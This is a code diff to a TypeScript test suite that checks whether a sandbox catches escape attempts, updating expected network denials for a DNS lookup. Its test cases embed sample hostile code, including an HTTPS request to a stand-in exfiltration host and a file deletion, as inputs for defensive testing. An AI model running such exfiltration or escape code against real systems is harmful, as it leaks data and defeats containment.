@@ -9,18 +9,7 @@ import { createServer as createHttpServer, type Server as HttpServer } from "nod
 import { createServer, type Server } from "node:net";
 import { basename, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import {
-  CAN_RUN_AS_NOBODY,
-  JAIL_AVAILABLE,
-  check,
-  ids,
-  isResolverAttempt,
-  privateHost,
-  program,
-  run,
-  sandbox,
-  type Sandbox,
-} from "./harness.js";
+import { CAN_RUN_AS_NOBODY, JAIL_AVAILABLE, check, ids, privateHost, program, run, sandbox, type Sandbox } from "./harness.js";
 
 let server: Server;
 let port = 0;
@@ -184,7 +173,8 @@ t(() => fs.rmSync(${q(out + "/hard")}));`,
   {
     name: "https by name",
     source: () => `require("https").get("https://exfil.example.net/x").on("error", () => {});`,
-    expected: () => ["network_denied:exfil.example.net:443"],
+    // The connection by name, and the lookup before it (the jail's resolver refused it and recorded it by name).
+    expected: () => ["network_denied:exfil.example.net:443", "network_denied:exfil.example.net"],
   },
   {
     name: "a python child writing outside",
@@ -275,10 +265,8 @@ describe("evasion suite: every attempt is caught", () => {
         expect(r.code).toBe(0);
         const report = await check(s);
         expect(report.verdict).toBe("envelope_fail");
-        // Exactly these (and the machine's resolvers for a lookup): nothing missed.
-        const found = ids(report)
-          .filter((id) => !isResolverAttempt(id))
-          .sort();
+        // Exactly these: nothing missed (a lookup is the jail's resolver's record, by name; the machine's resolver is never reached).
+        const found = ids(report).sort();
         const alternative = c.orElse?.(s.outside, s.workspace).sort();
         const matchesAlternative = alternative !== undefined && JSON.stringify(found) === JSON.stringify(alternative);
         const expected = (mode === "full" ? (c.expectedFull ?? c.expected) : c.expected)(s.outside, port).sort();
